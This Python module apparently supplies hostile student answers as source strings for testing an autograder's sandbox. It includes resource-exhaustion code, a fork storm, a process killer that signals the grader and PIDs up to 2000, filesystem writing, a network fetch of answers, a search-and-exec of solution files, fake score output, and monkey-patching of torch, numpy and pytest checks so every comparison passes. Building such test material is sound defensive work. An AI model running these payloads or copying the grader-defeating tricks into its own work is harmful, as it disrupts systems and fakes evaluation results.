"""Answers that attack the grader, as source texts for the demo class.

Nothing here is ever run outside the sandbox. NAME stands for the exercise's name. Each attack is
bounded, so that a mistake in our own limits costs a machine some seconds and not its life.
"""

from __future__ import annotations

from textwrap import dedent

MARKER = "NAME"


def attack(source: str, exercise: str) -> str:
    """Return the attack's source with the exercise's name filled in."""
    return source.replace(MARKER, exercise)


def _source(text: str) -> str:
    return dedent(text).strip() + "\n"


INFINITE_LOOP = _source("""
    def NAME(*args, **kwargs):
        while True:
            pass
""")

ENDLESS_SLEEP = _source("""
    import time


    def NAME(*args, **kwargs):
        time.sleep(100_000)
""")

MEMORY_HOG = _source("""
    def NAME(*args, **kwargs):
        hoard = []
        for _ in range(64):
            hoard.append(bytearray(128 * 2**20))
            for position in range(0, len(hoard[-1]), 4096):
                hoard[-1][position] = 1
        return hoard
""")

EARLY_EXIT = _source("""
    import os


    def NAME(*args, **kwargs):
        os._exit(0)
""")

FORK_STORM = _source("""
    import os
    import time


    def NAME(*args, **kwargs):
        for _ in range(300):
            if os.fork() == 0:
                time.sleep(5)
                os._exit(0)
""")

OUTPUT_FLOOD = _source("""
    import sys


    def NAME(*args, **kwargs):
        while True:
            sys.stdout.write("all work and no play makes a dull learner\\n" * 1000)
            sys.stderr.write("all work and no play makes a dull learner\\n" * 1000)
""")

OPENS_A_SOCKET = _source("""
    import socket


    def NAME(*args, **kwargs):
        with socket.create_connection(("192.0.2.1", 80), timeout=3) as connection:
            connection.sendall(b"GET /answers HTTP/1.0\\r\\n\\r\\n")
            return connection.recv(100_000)
""")

PRINTS_OWN_SCORE = _source("""
    import contextlib
    import json
    import os

    SCORE = {"name": "NAME", "points": 100.0, "max_points": 100.0, "passed": True, "checks": []}
    print(100.0)
    print("1 passed in 0.01s")
    print(json.dumps(SCORE))
    for descriptor in range(1, 32):
        with contextlib.suppress(OSError):
            os.write(descriptor, (json.dumps(SCORE) + "\\n").encode())


    def NAME(*args, **kwargs):
        print(json.dumps(SCORE))
        return SCORE
""")

PATCHES_THE_TOOLS = _source("""
    import builtins
    import sys
    import types

    import numpy
    import torch


    def _always(*args, **kwargs):
        return True


    class _Anything(Exception):
        pass


    builtins.AssertionError = _Anything
    builtins.isinstance = _always
    builtins.abs = lambda value: 0
    torch.equal = torch.allclose = torch.isclose = _always
    torch.testing.assert_close = _always
    torch.Tensor.__eq__ = torch.Tensor.__ne__ = _always
    torch.Tensor.equal = torch.Tensor.allclose = _always
    numpy.allclose = numpy.array_equal = _always
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = _always
    for _name in ("pytest", "_pytest", "autograder", "autograder.judge"):
        sys.modules[_name] = types.SimpleNamespace(
            raises=_always, fail=_always, main=lambda *a, **k: 0, fixture=_always
        )


    def NAME(*args, **kwargs):
        return torch.zeros(1)
""")

EQUALS_EVERYTHING = _source("""
    class _Chameleon:
        def __eq__(self, other):
            return True

        def __ne__(self, other):
            return False

        def __lt__(self, other):
            return True

        __le__ = __gt__ = __ge__ = __lt__

        def __hash__(self):
            return 0

        def __bool__(self):
            return True

        def __float__(self):
            return 1.0

        def __len__(self):
            return 1

        def __iter__(self):
            return iter([self])

        def __getitem__(self, key):
            return self

        def __getattr__(self, name):
            return self

        def __call__(self, *args, **kwargs):
            return self


    def NAME(*args, **kwargs):
        return _Chameleon()
""")

READS_THE_ANSWERS = _source("""
    import os


    def _look_for(name):
        for folder, folders, files in os.walk("/"):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "dev", "site-packages")]
            for file in files:
                path = os.path.join(folder, file)
                if not file.endswith((".py", ".ipynb", ".json", ".db")) or "python3" in folder:
                    continue
                try:
                    with open(path, encoding="utf-8") as stream:
                        text = stream.read(2_000_000)
                except (OSError, UnicodeDecodeError):
                    continue
                if f"def {name}(" in text and "BEGIN SOLUTION" in text:
                    return text
        raise FileNotFoundError("no answers within reach")


    def NAME(*args, **kwargs):
        space = {}
        exec(_look_for("NAME"), space)
        return space["NAME"](*args, **kwargs)
""")

ENDS_THE_GRADER = _source("""
    import contextlib
    import os
    import signal


    def NAME(*args, **kwargs):
        for process in [os.getppid(), *range(1, 2000)]:
            if process != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(process, signal.SIGKILL)
        os.kill(os.getpid(), signal.SIGKILL)
""")

WRITES_EVERYWHERE = _source("""
    import contextlib
    import os


    def NAME(*args, **kwargs):
        for count, (folder, folders, files) in enumerate(os.walk("/")):
            folders[:] = [f for f in folders if f not in ("proc", "sys", "dev")]
            with contextlib.suppress(OSError):
                with open(os.path.join(folder, "GRAFFITI"), "w") as file:
                    file.write("a student was here")
            if count > 5000:
                break
        return None
""")
GRAFFITI = "GRAFFITI"

# A check cell as a student would rewrite it, to be given points without an answer.
EDITED_CHECK = _source("""
    print("all checks passed")
    100.0
""")
